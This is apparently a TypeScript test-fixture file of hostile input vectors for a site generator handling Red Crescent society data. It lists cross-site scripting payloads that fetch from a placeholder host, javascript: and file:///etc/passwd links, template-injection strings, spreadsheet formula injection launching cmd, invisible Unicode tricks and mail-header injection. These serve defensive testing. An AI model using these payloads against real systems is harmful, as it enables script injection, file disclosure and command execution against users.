/** Hostile texts: markup, addresses, template and formula syntax, and letters that nobody sees. */
import { body, headline, meeting, type Vector } from './plant.ts'

const invisible = 'editorial/invisible-character'

/** Markup in prose is prose. */
const markup: readonly (readonly [string, string])[] = [
  ['a script', '<script src="$WEB/script"></script><script>fetch("$WEB/fetch")</script>'],
  ['a picture with a handler', '<img src="$WEB/img" onerror="fetch(\'$WEB/onerror\')">'],
  ['a frame', '<iframe src="$WEB/iframe"></iframe><iframe src="$CANARY"></iframe>'],
  ['a frame with its text inside', '<iframe srcdoc="<img src=$WEB/srcdoc>"></iframe>'],
  ['a drawing', '<svg onload="fetch(\'$WEB/svg\')"><image href="$WEB/svgimage"/><use href="$WEB/use#a"/></svg>'],
  ['a page that leads away', '<meta http-equiv="refresh" content="0;url=$WEB/refresh">'],
  ['a style', '<style>@import "$WEB/import"; p { background: url($WEB/background) }</style>'],
  ['a linked style', '<link rel="stylesheet" href="$WEB/css"><link rel="prefetch" href="$WEB/prefetch">'],
  ['an object', '<object data="$CANARY"></object><embed src="$WEB/embed">'],
  ['a base', '<base href="$WEB/base/">'],
  ['a form', '<form action="$WEB/form"><button autofocus onfocus="submit()">x</button></form>'],
  ['a film', '<video autoplay src="$WEB/video" poster="$WEB/poster"></video><audio autoplay src="$WEB/audio"></audio>'],
  ['a comment that ends early', '<!-- --><script>fetch("$WEB/comment")</script> -->'],
  ['character data', '<![CDATA[ <script>fetch("$WEB/cdata")</script> ]]>'],
  ['entities', '&lt;script&gt;fetch("$WEB/entities")&lt;/script&gt; &#x3c;img src=$WEB/entity&#x3e;'],
]

const addresses: readonly (readonly [string, string])[] = [
  ['a link to a script', '[сюда](javascript:fetch("$WEB/jslink"))'],
  ['a link to a script behind entities', '[сюда](java&#115;cript:alert%281%29)'],
  ['a link to a script behind a tab', '[сюда](<java\tscript:alert(1)>)'],
  ['a link to data', '[сюда](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['a link to a file', '[сюда]($CANARY) [и сюда](file:///etc/passwd)'],
  ['a link by definition', '[сюда][x]\n\n[x]: javascript:alert(1) "x"'],
  ['an address in angles', '<javascript:alert(1)> <file:///etc/passwd>'],
  ['a picture of the web', '![портрет]($WEB/markdown)'],
  ['a picture of the machine', '![портрет](../../../../etc/passwd) ![портрет]($CANARY)'],
]

const templateSyntax: readonly (readonly [string, string])[] = [
  [
    'the constructor of constructors',
    '{{constructor.constructor "return process"}}{{#with this as |x|}}{{x}}{{/with}}',
  ],
  ['a partial', '{{> letterhead}} {{> ../../../../etc/passwd}}'],
  ['unescaped output', '{{{body}}} {{&body}} {{{{raw}}}}x{{{{/raw}}}}'],
  ['other template languages', '<%= process.env %> $(process.env) #{7*7} {% include "/etc/passwd" %}'],
]

const formulas: readonly (readonly [string, string])[] = [
  ['=', '=HYPERLINK("$WEB/hyperlink","x")'],
  ['= that asks the web', '=WEBSERVICE("$WEB/webservice")'],
  ['= that starts a program', "=cmd|' /C calc'!A0"],
  ['+', "+cmd|' /C calc'!A0"],
  ['-', '-2+3+cmd'],
  ['@', '@SUM(1+1)'],
  ['a tab and =', '\t=1+1'],
  ['a line end and =', '\r\n=1+1'],
  ['a line and =', '|=1+1'],
]

const unseen: readonly (readonly [string, string])[] = [
  ['an override of direction', 'Выдано \u202e0001\u202c сумов'],
  ['an isolate', 'Выдано \u2067 1000 \u2069 сумов'],
  ['a mark of direction', 'Выдано\u200f 1000'],
  ['a space without width', 'Крас\u200bный'],
  ['a word joiner', 'Крас\u2060ный'],
  ['an invisible times', 'Крас\u2062ный'],
  ['a byte order mark inside', 'Крас\ufeffный'],
  ['letters of a tag', 'Красный\u{e0041}\u{e0042}'],
  ['a filler', 'Красный \u3164 Полумесяц'],
  ['a blank of Braille', 'Красный\u2800Полумесяц'],
  ['a soft hyphen', 'Крас\u00adный'],
  ['a line separator', 'Красный\u2028Полумесяц'],
  ['a private letter', 'Красный \ue000'],
  ['a control of the second set', 'Красный\u009b31m'],
  ['a joiner of graphemes', 'Крас\u034fный'],
]

export const textVectors: readonly Vector[] = [
  ...[...markup, ...addresses, ...templateSyntax].map(([name, text]) => ({
    name: `text: ${name}`,
    ...body(`До.\n\n${text}\n\nПосле.`),
    says: 'После.',
  })),
  ...formulas.map(([name, text]) => ({
    name: `text: a formula, ${name}`,
    swaps: { [meeting]: ['{ ru: Рабочая встреча,', `{ ru: ${JSON.stringify(text)},`] as const },
  })),
  ...unseen.map(([name, text]) => ({ name: `text: ${name}`, ...body(text), told: invisible })),
  { name: 'text: a headline that ends the style', ...headline('</style><script>fetch("$WEB/style")</script>') },
  { name: 'text: a headline that ends the data', ...headline('</script><script>fetch("$WEB/data")</script>') },
  { name: 'text: a headline that ends the string', ...headline('"; } @import "$WEB/string"; x { y: "\\') },
  { name: 'text: a headline that ends the title', ...headline('</title><img src=$WEB/title>') },
  {
    name: 'text: an alternative text that ends the attribute',
    swaps: { [meeting]: ['{ ru: Участники встречи,', '{ ru: \'x" onload="fetch(1)" src="$WEB/alt\','] },
  },
  {
    name: 'text: an area of the reports with an override of direction',
    swaps: { 'data/areas/rfl.yaml': ['name:', 'name: &n'] },
    adds: { 'data/areas/first-aid.yaml': 'definition: { ru: "До \\u202e после" }\n' },
    told: 'record/unknown-field',
  },
  {
    name: 'text: an agreement, which no release prints, with a space without width',
    swaps: { 'data/agreements/icrc-2022.yaml': ['title: {', 'title: { '] },
    files: { 'data/areas/hidden.yaml': 'name: { ru: "Скры\\u200bтое", en: Hidden }\n' },
    told: invisible,
  },
  { name: 'text: letters of another alphabet', ...body('Kрасный Полумесяц.'), told: 'editorial/mixed-alphabets' },
  { name: 'text: a control character', ...body('Красный\u0007'), told: 'record/control-character' },
  { name: 'text: a command to the terminal', ...body('\u001b[2J\u001b]0;x\u0007'), told: 'record/control-character' },
  { name: 'text: nothing at all, as a character', ...body('Красный\u0000'), told: 'record/control-character' },
  { name: 'text: a character that XML forbids', ...body('Красный\ufffe'), told: 'record/control-character' },
  { name: 'text: half of a pair', ...body('Красный\ud800'), told: 'record/control-character' },
  { name: 'text: one word of 60 000 letters', ...body(`${'щ'.repeat(60_000)} После.`), says: 'После.' },
  { name: 'text: four hundred accents on one letter', ...body(`е${'\u0301'.repeat(400)} После.`), says: 'После.' },
  { name: 'text: brackets without end', ...body(`${'['.repeat(20_000)} После.`), says: 'После.' },
  {
    name: 'text: quotations in quotations',
    ...body(`${'> '.repeat(3_000)}После.`),
    told: 'editorial/nested-too-deep',
  },
  { name: 'text: emphasis without end', ...body(`${'*a _'.repeat(8_000)} После.`), says: 'После.' },
  {
    name: 'text: a site that is a script',
    swaps: { 'data/society.yaml': ['country: UZ', 'country: UZ\nwebsite: "javascript:fetch(1)"'] },
    told: 'record/wrong-value',
  },
  {
    name: 'text: colours that are a style',
    swaps: { 'data/society.yaml': ['country: UZ', 'country: UZ\ncolours: { primary: "red;} @import \'$WEB/x\';{" }'] },
    told: 'record/wrong-value',
  },
  {
    name: 'text: a mail address that is a header',
    swaps: { 'data/society.yaml': ['press@example.org', '"a@example.org\\nBcc: b@example.org"'] },
    told: 'record/wrong-value',
  },
]
